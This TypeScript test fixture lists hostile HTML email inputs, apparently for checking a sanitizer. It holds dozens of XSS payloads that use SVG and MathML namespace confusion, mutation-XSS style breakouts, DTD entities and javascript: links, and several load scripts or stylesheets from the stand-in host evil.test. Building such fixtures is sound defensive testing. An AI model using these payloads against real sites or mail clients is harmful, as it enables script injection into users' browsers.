import type { HostileMails } from './hostile-mail.js';

const payload = '<img src=x onerror=alert(1)>';

/** SVG, MathML, and markup that means another thing when it is read again. */
export const namespaces: HostileMails = {
  'svg onload': '<svg onload=alert(1)>',
  'svg onload after a slash': '<svg/onload=alert(1)//',
  'svg script': '<svg><script>alert(1)</script></svg>',
  'svg script with references': '<svg><script>&#97;lert(1)</script></svg>',
  'svg script from elsewhere':
    '<svg><script href="https://evil.test/svg.js"/><script xlink:href="https://evil.test/svg2.js"/></svg>',
  'svg script in CDATA': '<svg><script><![CDATA[alert(1)]]></script></svg>',
  'svg image': '<svg><image href="https://evil.test/svg.gif" xlink:href="https://evil.test/svg2.gif"/></svg>',
  'svg feImage':
    '<svg><filter id=f><feImage href="https://evil.test/fe.gif"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
  'svg use of another file': '<svg><use href="https://evil.test/use.svg#x"/></svg>',
  'svg use of data':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
  'svg animate onbegin': '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  'svg set onbegin': '<svg><set onbegin=alert(1) attributeName=x></svg>',
  'svg animateTransform onend': '<svg><g><animateTransform onend=alert(1) attributeName=transform dur=.1s></g></svg>',
  'svg discard and handler': '<svg><discard onbegin=alert(1)></svg>',
  'svg foreignObject': `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${payload}</body></foreignObject></svg>`,
  'svg foreignObject iframe':
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  'svg style that imports': '<svg><style>@import "https://evil.test/svg.css";</style></svg>',
  'svg style that is markup': `<svg><style>${payload}</style></svg>`,
  'svg style with a hidden end': `<svg></p><style><a id="</style>${payload}">`,
  'svg style with references': '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg><svg onload=alert(1)>',
  'svg title and desc': `<svg><title>${payload}</title><desc>${payload}</desc></svg>`,
  'svg textarea': `<svg><textarea>${payload}</textarea></svg>`,
  'svg in a paragraph that closes': `<svg><p>${payload}</p></svg>`,
  'svg with an xml base':
    '<svg xml:base="https://evil.test/"><image href="base.gif"/></svg><img src="//evil.test/xml.gif">',
  'svg with entities of a DTD':
    '<!DOCTYPE x [<!ENTITY a "<script>alert(1)</script>">]><svg>&a;</svg><svg onload=alert(1)>',
  'svg with handlers of a namespace':
    '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event=load>alert(1)</handler></svg><svg onload=alert(1)>',
  'math with a style and a comment': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
  'math with a nested form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'math with nested mglyph':
    '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  'math annotation-xml': `<math><annotation-xml encoding="text/html"><style>${payload}</style></annotation-xml></math>`,
  'math annotation-xml with svg': `<math><annotation-xml encoding="application/xhtml+xml"><svg><style>${payload}</style></svg></annotation-xml></math>`,
  'math with a link': '<math href="javascript:alert(1)"><mi>x</mi></math><math><mi onclick=alert(1)>x</mi></math>',
  'math with a malignmark': `<math><mi><malignmark><style><a title="</style>${payload}">`,
  'math with xlink':
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)" onclick=alert(1)>x<mtext>y</mtext></maction></math>',
  'select in svg': `<select><svg><style>${payload}</style></svg></select>${payload}`,
  'deep nesting that browsers flatten': `${'<div>'.repeat(520)}<svg><style><a title="</style>${payload}">`,
  'deep nesting of forms and tables': `${'<table><tr><td>'.repeat(200)}<math><mtext><style><a title="</style>${payload}">`,
  'table that moves its content': `<table><svg><style><b title="</style>${payload}"></table>`,
  'nested links that are split': `<a><svg><a><style><b title="</style>${payload}">`,
  'title in svg in math': `<math><svg><title><style><b title="</style>${payload}">`,
  'font that breaks out of svg': `<svg><font color=x><style><b title="</style>${payload}">`,
  'xml stylesheet and processing instructions': `<?xml-stylesheet href="https://evil.test/a.css"?><?php echo 1 ?><? ${payload} ?>${payload}`,
  'CDATA outside of svg': `<![CDATA[ > ${payload} ]]>`,
  'CDATA that ends early': `<![CDATA[><script>alert(1)</script>]]>`,
};
